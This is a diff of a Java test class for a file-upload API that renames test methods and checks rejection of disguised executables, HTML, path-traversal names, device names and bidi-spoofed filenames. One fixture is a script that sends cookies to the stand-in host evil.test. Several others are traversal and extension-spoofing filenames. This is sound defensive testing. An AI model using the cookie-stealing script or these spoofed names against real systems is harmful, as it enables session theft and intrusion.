@@ -18,6 +18,9 @@ import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.stream.Stream;
 
+import static io.clientworkspace.tck.SampleFiles.pdf;
+import static io.clientworkspace.tck.SampleFiles.png;
+import static io.clientworkspace.tck.SampleFiles.windowsExecutable;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.hamcrest.Matchers.containsString;
 import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
@@ -50,7 +53,7 @@ class HostileUploadApiTest extends FileApiTestSupport {
     }
 
     @Test
-    void an_executable_named_pdf_is_400_naming_the_detected_type_and_stores_nothing() throws Exception {
+    void anExecutableNamedPdfIs400NamingTheDetectedTypeAndStoresNothing() throws Exception {
         mvc.perform(rawUpload(workspace, "invoice.pdf", "application/pdf", windowsExecutable()).with(as(client)))
                 .andExpect(problem(400, "validation"))
                 .andExpect(jsonPath("$.errors[0].field").value("content"))
@@ -61,7 +64,7 @@ class HostileUploadApiTest extends FileApiTestSupport {
     }
 
     @Test
-    void an_executable_sent_as_multipart_is_refused_the_same_way() throws Exception {
+    void anExecutableSentAsMultipartIsRefusedTheSameWay() throws Exception {
         mvc.perform(multipart(base(workspace) + "/files").file(new MockMultipartFile("file", "invoice.pdf",
                         "application/pdf", windowsExecutable())).with(as(client)))
                 .andExpect(problem(400, "validation"))
@@ -71,7 +74,7 @@ class HostileUploadApiTest extends FileApiTestSupport {
     }
 
     @Test
-    void a_refused_upload_leaves_no_blob_behind() throws Exception {
+    void aRefusedUploadLeavesNoBlobBehind() throws Exception {
         long before = blobCount();
 
         mvc.perform(rawUpload(workspace, "invoice.pdf", "application/pdf", windowsExecutable()).with(as(client)))
@@ -84,7 +87,7 @@ class HostileUploadApiTest extends FileApiTestSupport {
     }
 
     @Test
-    void a_png_named_pdf_is_400_on_the_name_saying_what_the_content_is() throws Exception {
+    void aPngNamedPdfIs400OnTheNameSayingWhatTheContentIs() throws Exception {
         mvc.perform(rawUpload(workspace, "contract.pdf", "application/pdf", png()).with(as(client)))
                 .andExpect(problem(400, "validation"))
                 .andExpect(jsonPath("$.errors[0].field").value("name"))
@@ -94,7 +97,7 @@ class HostileUploadApiTest extends FileApiTestSupport {
     }
 
     @Test
-    void an_html_page_is_never_accepted_whatever_type_is_declared() throws Exception {
+    void anHtmlPageIsNeverAcceptedWhateverTypeIsDeclared() throws Exception {
         byte[] html = "<!DOCTYPE html>\n<html><body><script>fetch('https://evil.test/?c='+document.cookie)</script></body></html>\n"
                 .getBytes(StandardCharsets.US_ASCII);
 
@@ -106,7 +109,7 @@ class HostileUploadApiTest extends FileApiTestSupport {
     }
 
     @Test
-    void an_empty_upload_is_400_on_the_content() throws Exception {
+    void anEmptyUploadIs400OnTheContent() throws Exception {
         mvc.perform(rawUpload(workspace, "empty.pdf", "application/pdf", new byte[0]).with(as(client)))
                 .andExpect(problem(400, "validation"))
                 .andExpect(jsonPath("$.errors[0].field").value("content"))
@@ -122,7 +125,7 @@ class HostileUploadApiTest extends FileApiTestSupport {
             "'/var/www/html/index.pdf', index.pdf",
             "'CON.pdf', _CON.pdf",
             "'report.pdf...', report.pdf"})
-    void a_name_with_a_path_or_a_device_name_is_stored_sanitized(String hostile, String stored) throws Exception {
+    void aNameWithAPathOrADeviceNameIsStoredSanitized(String hostile, String stored) throws Exception {
         String json = mvc.perform(rawUpload(workspace, hostile, "application/pdf", pdf("x")).with(as(client)))
                 .andExpect(status().isCreated())
                 .andExpect(jsonPath("$.name").value(stored))
@@ -138,7 +141,7 @@ class HostileUploadApiTest extends FileApiTestSupport {
     }
 
     @Test
-    void a_traversal_name_in_content_disposition_is_sanitized_too() throws Exception {
+    void aTraversalNameInContentDispositionIsSanitizedToo() throws Exception {
         mvc.perform(post(base(workspace) + "/files").with(as(client)).contentType("application/pdf")
                         .header(HttpHeaders.CONTENT_DISPOSITION, "attachment; filename*=UTF-8''..%2F..%2Fsecrets.pdf")
                         .content(pdf("x")))
@@ -147,14 +150,14 @@ class HostileUploadApiTest extends FileApiTestSupport {
     }
 
     @Test
-    void a_name_that_hides_its_extension_with_a_bidi_override_loses_the_override() throws Exception {
+    void aNameThatHidesItsExtensionWithABidiOverrideLosesTheOverride() throws Exception {
         mvc.perform(rawUpload(workspace, "invoice\u202Efdp.png", "image/png", png()).with(as(client)))
                 .andExpect(status().isCreated())
                 .andExpect(jsonPath("$.name").value("invoicefdp.png"));
     }
 
     @Test
-    void an_upload_without_a_name_is_400_on_the_name() throws Exception {
+    void anUploadWithoutANameIs400OnTheName() throws Exception {
         mvc.perform(post(base(workspace) + "/files").with(as(client)).contentType("application/pdf").content(pdf("x")))
                 .andExpect(problem(400, "validation"))
                 .andExpect(jsonPath("$.errors[0].field").value("name"));
@@ -163,14 +166,14 @@ class HostileUploadApiTest extends FileApiTestSupport {
     }
 
     @Test
-    void a_name_of_dots_only_is_400() throws Exception {
+    void aNameOfDotsOnlyIs400() throws Exception {
         mvc.perform(rawUpload(workspace, "..", "application/pdf", pdf("x")).with(as(client)))
                 .andExpect(problem(400, "validation"))
                 .andExpect(jsonPath("$.errors[0].field").value("name"));
     }
 
     @Test
-    void a_multipart_form_without_the_part_file_is_400_naming_it() throws Exception {
+    void aMultipartFormWithoutThePartFileIs400NamingIt() throws Exception {
         mvc.perform(multipart(base(workspace) + "/files").file(new MockMultipartFile("document", "a.pdf",
                         "application/pdf", pdf("x"))).with(as(client)))
                 .andExpect(problem(400, "validation"))
@@ -178,7 +181,7 @@ class HostileUploadApiTest extends FileApiTestSupport {
     }
 
     @Test
-    void a_form_encoded_body_is_415_and_stores_nothing() throws Exception {
+    void aFormEncodedBodyIs415AndStoresNothing() throws Exception {
         mvc.perform(post(base(workspace) + "/files").queryParam("name", "a.txt").with(as(client))
                         .contentType(MediaType.APPLICATION_FORM_URLENCODED).content("a=b"))
                 .andExpect(problem(415, "bad-request"));
@@ -187,7 +190,7 @@ class HostileUploadApiTest extends FileApiTestSupport {
     }
 
     @Test
-    void an_unknown_visibility_is_400_naming_the_choices() throws Exception {
+    void anUnknownVisibilityIs400NamingTheChoices() throws Exception {
         mvc.perform(rawUpload(workspace, "a.pdf", "application/pdf", pdf("x")).queryParam("visibility", "PUBLIC")
                         .with(as(client)))
                 .andExpect(problem(400, "validation"))
@@ -196,7 +199,7 @@ class HostileUploadApiTest extends FileApiTestSupport {
     }
 
     @Test
-    void a_new_version_that_is_an_executable_is_400_and_the_file_keeps_its_versions() throws Exception {
+    void aNewVersionThatIsAnExecutableIs400AndTheFileKeepsItsVersions() throws Exception {
         FileAsset file = file(admin, workspace, "logo.pdf", pdf("one"));
 
         mvc.perform(post(base(workspace) + "/files/{id}/versions", file.id().value()).with(as(client))
